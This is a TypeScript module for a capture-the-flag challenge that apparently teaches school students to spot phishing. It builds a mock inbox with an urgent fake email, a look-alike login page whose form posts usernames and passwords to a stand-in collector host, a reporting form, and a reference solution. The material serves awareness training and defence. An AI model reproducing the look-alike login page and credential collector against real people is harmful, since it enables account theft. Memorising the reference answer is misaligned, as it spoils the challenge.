import { createSite, esc, html, page } from '../http.ts';
import { seen, type ChallengeModule, type ChallengeSolution } from '../types.ts';

const MAIL = 'thu.thcs-hoasen.test';
const FAKE = 'hoc.thcs-hoasen.test.dang-nhap-ngay.test';
const COLLECT = 'thu-thap.dang-nhap-ngay.test';

export const fakeLogin: ChallengeModule = {
  id: 'fake-login',
  start: `http://${MAIL}/`,
  createSite: ({ flag }) => createSite([
    { host: MAIL, routes: {
      'GET /': () => html(page('Hộp thư – THCS Hoa Sen', `<h1>Hộp thư của em</h1>
<div class="box"><p><b>Từ:</b> Phong Dao Tao &lt;daotao.thcshoasen@thu-mien-phi.test&gt;</p><p><b>Tiêu đề:</b> KHẨN: Tài khoản học trực tuyến sẽ bị khoá trong 24 giờ</p>
<p>Em hãy đăng nhập lại ngay tại <a href="http://${FAKE}/dang-nhap">hoc.thcs-hoasen.test</a> để không bị khoá tài khoản.</p></div>
<p><a href="/bao-cao">Báo cho thầy Tùng (phụ trách CNTT của trường)</a></p>`)),
      'GET /bao-cao': () => html(page('Báo cáo thư giả mạo', `<h1>Báo cáo thư giả mạo</h1><form method="post" action="/bao-cao"><label>Tên miền thật của trang đăng nhập trong thư <input name="trang_gia"></label><label>Mật khẩu nhập vào sẽ được gửi tới tên miền nào? <input name="noi_nhan"></label><button>Gửi thầy Tùng</button></form>`)),
      'POST /bao-cao': (req) => {
        const a = (req.form.trang_gia ?? '').trim().toLowerCase();
        const b = (req.form.noi_nhan ?? '').trim().toLowerCase();
        if (a === FAKE && b === COLLECT) return html(page('Cảm ơn em', `<p>Thầy đã chặn trang giả và báo cả trường. Cờ của em: <b>${flag}</b></p>`));
        return html(page('Chưa đúng', `<p>Thầy kiểm tra chưa khớp${a === FAKE ? ' ở nơi nhận mật khẩu' : ''}. Hãy xem kĩ địa chỉ thật của đường link và mã nguồn của trang.</p>`));
      },
    } },
    { host: FAKE, routes: {
      'GET /dang-nhap': () => html(page('Đăng nhập – Học trực tuyến THCS Hoa Sen', `<h1>🏫 Học trực tuyến THCS Hoa Sen</h1>
<form method="post" action="http://${COLLECT}/luu"><label>Tên đăng nhập <input name="u"></label><label>Mật khẩu <input name="p" type="password"></label><button>Đăng nhập</button></form>`)),
    } },
    { host: COLLECT, routes: {
      'POST /luu': (req) => html(page('Lỗi', `<p>Hệ thống đang bảo trì, vui lòng thử lại sau.</p><!-- đã lưu: ${esc(req.form.u ?? '')} -->`)),
    } },
  ]),
};

/** The organiser's reference solution and a beginner's naive attempt (never bundled into the player's page). */
export const fakeLoginSolution: ChallengeSolution = {
  async solve(c) {
    const inbox = await c.get(`http://${MAIL}/`);
    const href = /href="(http:[^"]+)"/.exec(inbox.body)?.[1] ?? '';
    const fake = await c.get(href);
    const action = /action="(http:[^"]+)"/.exec(fake.body)?.[1] ?? '';
    const r = await c.post(`http://${MAIL}/bao-cao`, { trang_gia: new URL(href).hostname, noi_nhan: new URL(action).hostname });
    return seen(inbox, fake, r);
  },
  async naive(c) {
    // Believes the link text and types a password into the fake page.
    const fake = await c.post(`http://${COLLECT}/luu`, { u: 'hs.an', p: 'matkhau' });
    const r = await c.post(`http://${MAIL}/bao-cao`, { trang_gia: 'hoc.thcs-hoasen.test', noi_nhan: 'hoc.thcs-hoasen.test' });
    return seen(fake, r);
  },
};
